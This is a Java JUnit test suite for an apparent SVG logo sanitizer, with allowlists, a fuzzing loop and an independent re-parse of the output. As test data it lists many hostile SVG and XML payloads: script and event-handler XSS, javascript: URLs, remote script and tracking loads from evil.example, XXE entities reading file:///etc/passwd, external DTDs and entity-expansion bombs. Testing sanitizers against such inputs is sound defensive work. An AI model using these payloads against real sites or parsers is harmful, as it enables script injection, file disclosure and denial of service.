package io.cybershield.branding;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.cybershield.branding.Logo.Refused;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.zip.GZIPOutputStream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * Hostile pictures. Whatever goes in, what comes out is read by another parser and held against a
 * list that this test has of its own.
 */
class SvgLogoTest {
    private static final String HEAD =
            "<svg xmlns=\"http://www.w3.org/2000/svg\""
                    + " xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 24 24\">";
    private static final String SHAPE = "<path d=\"M0 0h24v24H0z\" fill=\"#3d57d4\"/>";

    private static final Set<String> ELEMENTS =
            Set.of(
                    "svg",
                    "g",
                    "defs",
                    "path",
                    "rect",
                    "circle",
                    "ellipse",
                    "line",
                    "polyline",
                    "polygon",
                    "linearGradient",
                    "radialGradient",
                    "stop",
                    "title");
    private static final Set<String> ATTRIBUTES =
            Set.of(
                    "xmlns",
                    "viewBox",
                    "width",
                    "height",
                    "id",
                    "d",
                    "points",
                    "transform",
                    "gradientTransform",
                    "gradientUnits",
                    "spreadMethod",
                    "x",
                    "y",
                    "x1",
                    "y1",
                    "x2",
                    "y2",
                    "cx",
                    "cy",
                    "r",
                    "rx",
                    "ry",
                    "fx",
                    "fy",
                    "offset",
                    "fill",
                    "stroke",
                    "color",
                    "stop-color",
                    "stop-opacity",
                    "opacity",
                    "fill-opacity",
                    "fill-rule",
                    "clip-rule",
                    "stroke-opacity",
                    "stroke-width",
                    "stroke-linecap",
                    "stroke-linejoin",
                    "stroke-miterlimit",
                    "stroke-dasharray",
                    "stroke-dashoffset");
    private static final Pattern HARMLESS =
            Pattern.compile("[-+.,#%()/\\w\\s]*|http://www\\.w3\\.org/2000/svg");
    private static final Pattern REFERENCE = Pattern.compile("url\\(#[A-Za-z_][\\w.-]*\\)");

    /** Each is taken without what is hostile, or refused. */
    static List<String> hostile() {
        var list = new ArrayList<String>();
        for (String part :
                List.of(
                        "<script>alert(1)</script>",
                        "<script xlink:href=\"https://evil.example/x.js\"/>",
                        "<script type=\"text/ecmascript\"><![CDATA[alert(1)]]></script>",
                        "<SCRIPT>alert(1)</SCRIPT>",
                        "<x:script xmlns:x=\"http://www.w3.org/2000/svg\">alert(1)</x:script>",
                        "<script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
                        "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\""
                                + " onerror=\"alert(1)\"/></body></foreignObject>",
                        "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\""
                                + " src=\"javascript:alert(1)\"/></foreignObject>",
                        "<g><foreignObject><svg"
                            + " xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg></foreignObject></g>",
                        "<image href=\"https://evil.example/track.png\"/>",
                        "<image xlink:href=\"file:///etc/passwd\"/>",
                        "<image href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\"/>",
                        "<feImage href=\"https://evil.example/x\"/>",
                        "<use href=\"https://evil.example/x.svg#a\"/>",
                        "<use xlink:href=\"data:image/svg+xml,%3Csvg%3E#x\"/>",
                        "<a href=\"javascript:alert(1)\"><path d=\"M0 0h9v9z\"/></a>",
                        "<a xlink:href=\"https://evil.example\"><text>Sign in</text></a>",
                        "<style>@import url(https://evil.example/x.css);</style>",
                        "<style>path{fill:url(https://evil.example/#x)}</style>",
                        "<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>",
                        "<path style=\"fill:url(https://evil.example/#x)\" d=\"M0 0\"/>",
                        "<path style=\"background:url('javascript:alert(1)')\" d=\"M0 0\"/>",
                        "<path style=\"fill:red;behavior:url(#default)\" d=\"M0 0\"/>",
                        "<path style=\"fill:expression(alert(1))\" d=\"M0 0\"/>",
                        "<path style=\"fill:\\75 rl(https://evil.example)\" d=\"M0 0\"/>",
                        "<path style=\"fill:u/**/rl(x)\" d=\"M0 0\"/>",
                        "<path fill=\"url(https://evil.example/#a)\" d=\"M0 0\"/>",
                        "<path fill=\"url(//evil.example#a)\" d=\"M0 0\"/>",
                        "<path fill=\"url(#a) url(https://evil.example)\" d=\"M0 0\"/>",
                        "<path fill=\"url( '#nothing' )\" d=\"M0 0\"/>",
                        "<path fill=\"var(--x, url(https://evil.example))\" d=\"M0 0\"/>",
                        "<path fill=\"image-set('https://evil.example')\" d=\"M0 0\"/>",
                        "<path filter=\"url(https://evil.example/#f)\" d=\"M0 0\"/>",
                        "<path mask=\"url(https://evil.example/#m)\" clip-path=\"url(//e)\" d=\"M0"
                                + " 0\"/>",
                        "<path marker-end=\"url(https://evil.example/#m)\" d=\"M0 0\"/>",
                        "<path cursor=\"url(https://evil.example/c.cur),auto\" d=\"M0 0\"/>",
                        "<path onclick=\"alert(1)\" d=\"M0 0\"/>",
                        "<path ONLOAD=\"alert(1)\" d=\"M0 0\"/>",
                        "<g onmouseover=\"alert(1)\"><path d=\"M0 0\"/></g>",
                        "<path d=\"M0 0\" xml:base=\"https://evil.example/\"/>",
                        "<path d=\"M0 0\" xlink:href=\"javascript:alert(1)\"/>",
                        "<path d=\"M0 0&quot; onload=&quot;alert(1)\"/>",
                        "<path id=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" d=\"M0 0\"/>",
                        "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
                        "<title><![CDATA[</title><script>alert(1)</script>]]></title>",
                        "<desc><script>alert(1)</script></desc>",
                        "<metadata><x:y xmlns:x=\"urn:x\" onload=\"1\"/></metadata>",
                        "<animate attributeName=\"href\" to=\"javascript:alert(1)\"/>",
                        "<set attributeName=\"onload\" to=\"alert(1)\"/>",
                        "<animateTransform attributeName=\"transform\" begin=\"0s\"/>",
                        "<path d=\"M0 0\"><set attributeName=\"fill\" to=\"url(//e)\"/></path>",
                        "<handler type=\"application/ecmascript\">alert(1)</handler>",
                        "<listener event=\"load\" handler=\"#x\"/>",
                        "<iframe src=\"https://evil.example\"/>",
                        "<embed src=\"x\"/><object data=\"x\"/><audio src=\"x\"/><video"
                                + " src=\"x\"/>",
                        "<text>Session over: sign in at evil.example</text>",
                        "<switch><foreignObject/></switch>",
                        "<symbol id=\"a\"><script>1</script></symbol>",
                        "<pattern id=\"p\"><image href=\"x\"/></pattern>",
                        "<filter id=\"f\"><feFlood/></filter>",
                        "<linearGradient id=\"g\" href=\"https://evil.example/#g\"/>",
                        "<linearGradient id=\"g\" xlink:href=\"#g\"><stop"
                                + " offset=\"0\"/></linearGradient>",
                        "<svg><script>alert(1)</script></svg>",
                        "<svg onload=\"alert(1)\"/>",
                        "<?xml-stylesheet href=\"https://evil.example/x.css\"?>",
                        "<!-- --><script>alert(1)</script><!-- -->",
                        "<path d=\"M0 0\" transform=\"translate(1) url(x)\"/>",
                        "<rect width=\"calc(1px + url(x))\" height=\"9\"/>",
                        "<math xmlns=\"http://www.w3.org/1998/Math/MathML\"><mi/></math>")) {
            list.add(HEAD + SHAPE + part + "</svg>");
        }
        list.add(HEAD.replace("<svg ", "<svg onload=\"alert(1)\" ") + SHAPE + "</svg>");
        list.add(
                HEAD.replace("<svg ", "<svg xml:space=\"preserve\" style=\"x:url(y)\" ")
                        + SHAPE
                        + "</svg>");
        list.add("<?xml-stylesheet href=\"x\"?>" + HEAD + SHAPE + "</svg>");
        list.add("<?xml version=\"1.0\" encoding=\"UTF-7\"?>" + HEAD + SHAPE + "</svg>");
        list.add(HEAD + SHAPE + "<path d=\"" + "M0 0".repeat(9000) + "\" onload=\"1\"/></svg>");
        return list;
    }

    /** Each is refused whole. */
    static List<byte[]> impossible() {
        var list = new ArrayList<byte[]>();
        for (String text :
                List.of(
                        "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                                + HEAD
                                + "<title>&x;</title></svg>",
                        "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\""
                                + " \"http://evil.example/x.dtd\">"
                                + HEAD
                                + SHAPE
                                + "</svg>",
                        "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>"
                                + HEAD
                                + "<title>&b;</title></svg>",
                        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/p\">%p;]>"
                                + HEAD
                                + "</svg>",
                        "<!doctype html><html><script>alert(1)</script></html>",
                        "<html"
                            + " xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>",
                        "<svg><path d=\"M0 0\"/></svg>",
                        "<script xmlns=\"http://www.w3.org/2000/svg\">alert(1)</script>",
                        "<g xmlns=\"http://www.w3.org/2000/svg\"/>",
                        HEAD + "<title>&undeclared;</title>" + SHAPE + "</svg>",
                        HEAD + SHAPE,
                        HEAD + "<path d='M0 0'></svg>",
                        HEAD + "</svg>",
                        HEAD + "<script>1</script></svg>",
                        HEAD.replace("0 0 24 24", "0 0 1e99 24") + SHAPE + "</svg>",
                        HEAD.replace("0 0 24 24", "0 0 -1 24") + SHAPE + "</svg>",
                        HEAD.replace("0 0 24 24", "0 0 NaN 24") + SHAPE + "</svg>",
                        HEAD.replace("viewBox=\"0 0 24 24\"", "width=\"100%\"") + SHAPE + "</svg>",
                        HEAD + "<g>".repeat(60) + SHAPE + "</g>".repeat(60) + "</svg>",
                        HEAD + SHAPE.repeat(3000) + "</svg>",
                        HEAD + "<desc>" + "<b/>".repeat(3000) + "</desc>" + SHAPE + "</svg>",
                        HEAD + "<path d=\"" + "M0 0".repeat(40_000) + "\"/></svg>",
                        "",
                        "GIF89a",
                        "%PDF-1.7",
                        "<",
                        "<?xml version=\"1.0\"?>")) {
            list.add(text.getBytes(UTF_8));
        }
        list.add((HEAD + SHAPE + "</svg>").getBytes(UTF_16));
        list.add(new byte[] {'<', (byte) 0xff, (byte) 0xfe});
        try (var bytes = new ByteArrayOutputStream();
                var zip = new GZIPOutputStream(bytes)) {
            zip.write((HEAD + SHAPE + "</svg>").getBytes(UTF_8));
            zip.finish();
            list.add(bytes.toByteArray());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return list;
    }

    @Test
    void theCorpusIsLarge() {
        assertThat(hostile().size() + impossible().size()).isGreaterThanOrEqualTo(100);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void nothingHostileIsLeft(String picture) throws Exception {
        byte[] out = SvgLogo.read(picture.getBytes(UTF_8)).content();
        assertThat(new String(out, UTF_8))
                .doesNotContainIgnoringCase("<script")
                .doesNotContainIgnoringCase("javascript")
                .doesNotContainIgnoringCase("evil.example/")
                .doesNotContainIgnoringCase("foreignObject")
                .doesNotContainIgnoringCase(" on")
                .contains("<path d=\"M0 0h24v24H0z\" fill=\"#3d57d4\"/>");
        holds(out);
        assertThat(SvgLogo.read(out).content()).as("idempotent").isEqualTo(out);
        assertThat(SvgLogo.read(out).leftOut()).as("nothing more to leave out").isEmpty();
    }

    @ParameterizedTest
    @MethodSource("impossible")
    void whatIsNoPictureIsRefusedInWords(byte[] picture) {
        assertThatThrownBy(() -> SvgLogo.read(picture))
                .isInstanceOf(Refused.class)
                .message()
                .isNotBlank()
                .doesNotContain("Exception");
    }

    @Test
    void whateverIsCutSwappedOrJoinedHoldsOrIsRefused() throws Exception {
        var random = new Random(36);
        var corpus = hostile();
        int taken = 0;
        for (int i = 0; i < 4000; i++) {
            var text = new StringBuilder(corpus.get(random.nextInt(corpus.size() - 1)));
            String other = corpus.get(random.nextInt(corpus.size() - 1));
            for (int change = random.nextInt(3); change >= 0; change--) {
                int at = random.nextInt(text.length());
                switch (random.nextInt(4)) {
                    case 0 -> text.delete(at, Math.min(text.length(), at + random.nextInt(6)));
                    case 1 ->
                            text.setCharAt(
                                    at, "<>&\"'/=# \u0000\ufeff:;()".charAt(random.nextInt(15)));
                    case 2 -> {
                        int from = random.nextInt(other.length());
                        text.insert(at, other, from, Math.min(other.length(), from + 40));
                    }
                    default -> text.insert(at, "url(//evil.example)");
                }
                if (text.isEmpty()) {
                    text.append(' ');
                }
            }
            byte[] out;
            try {
                out = SvgLogo.read(text.toString().getBytes(UTF_8)).content();
            } catch (Refused e) {
                continue;
            }
            taken++;
            holds(out);
            assertThat(SvgLogo.read(out).content()).as(text.toString()).isEqualTo(out);
        }
        assertThat(taken)
                .as("enough of them are taken for this to say anything")
                .isGreaterThan(500);
    }

    @Test
    void whatDrawingProgramsWriteStaysTheSamePicture() throws Exception {
        String drawn =
                """
                <?xml version="1.0" encoding="UTF-8" standalone="no"?>
                <!-- Created with a drawing program -->
                <svg xmlns="http://www.w3.org/2000/svg" version="1.1" width="48px" height="16">
                  <title> Harbour
                     SOC &amp; more </title>
                  <defs>
                    <linearGradient id="a" x1="0%" x2="1"><stop offset=".5" style="stop-color:#fff;stop-opacity:0.5"/></linearGradient>
                  </defs>
                  <g transform="matrix(1,0,0,1,-2.5,0) translate(1 2)" style="fill:url(#a);stroke-width:.5px">
                    <path d="M1.5,2e1 l-3-4 Z"/><circle cx="3" cy="4" r="1"/>
                    <rect fill="rgba(1, 2, 3, .5)" width="50%" height="3" rx="1"/>
                  </g>
                </svg>
                """;
        var logo = SvgLogo.read(drawn.getBytes(UTF_8));
        assertThat(logo.leftOut()).isEmpty();
        assertThat(new String(logo.content(), UTF_8))
                .contains("viewBox=\"0 0 48 16\"")
                .contains("<title>Harbour SOC &amp; more</title>")
                .contains("stop-color=\"#fff\" stop-opacity=\"0.5\"")
                .contains("fill=\"url(#a)\"")
                .contains("transform=\"matrix(1,0,0,1,-2.5,0) translate(1 2)\"")
                .contains("<path d=\"M1.5,2e1 l-3-4 Z\"/>");
        holds(logo.content());
    }

    @Test
    void whatWasLeftOutIsNamed() throws Exception {
        var logo =
                SvgLogo.read(
                        (HEAD + SHAPE + "<text>x</text><path d=\"M0 0\" onclick=\"1\"/></svg>")
                                .getBytes(UTF_8));
        assertThat(logo.leftOut()).containsExactly("<text>", "onclick");
    }

    /** By another parser, with a list of our own. */
    private static void holds(byte[] out) throws Exception {
        var factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        Element root =
                factory.newDocumentBuilder()
                        .parse(new ByteArrayInputStream(out))
                        .getDocumentElement();
        assertThat(root.getLocalName()).isEqualTo("svg");
        var gradients = new TreeSet<String>();
        for (String kind : List.of("linearGradient", "radialGradient")) {
            var found = root.getElementsByTagName(kind);
            for (int i = 0; i < found.getLength(); i++) {
                gradients.add(((Element) found.item(i)).getAttribute("id"));
            }
        }
        holds(root, gradients);
    }

    private static void holds(Node node, Set<String> gradients) {
        switch (node.getNodeType()) {
            case Node.TEXT_NODE -> {
                if (!node.getTextContent().isBlank()) {
                    assertThat(node.getParentNode().getLocalName()).isEqualTo("title");
                }
                return;
            }
            case Node.ELEMENT_NODE -> {
                assertThat(node.getNamespaceURI()).isEqualTo("http://www.w3.org/2000/svg");
                assertThat(ELEMENTS).contains(node.getLocalName());
            }
            default -> throw new AssertionError("A node of type " + node.getNodeType());
        }
        var attributes = node.getAttributes();
        for (int i = 0; i < attributes.getLength(); i++) {
            Node attribute = attributes.item(i);
            String value = attribute.getNodeValue();
            assertThat(ATTRIBUTES).contains(attribute.getNodeName());
            assertThat(value).as(attribute.getNodeName()).matches(HARMLESS);
            if (value.contains("url")) {
                assertThat(value).matches(REFERENCE);
                assertThat(gradients).contains(value.substring(5, value.length() - 1));
                assertThat(attribute.getNodeName()).isIn("fill", "stroke");
            }
        }
        for (Node child = node.getFirstChild(); child != null; child = child.getNextSibling()) {
            holds(child, gradients);
        }
    }
}
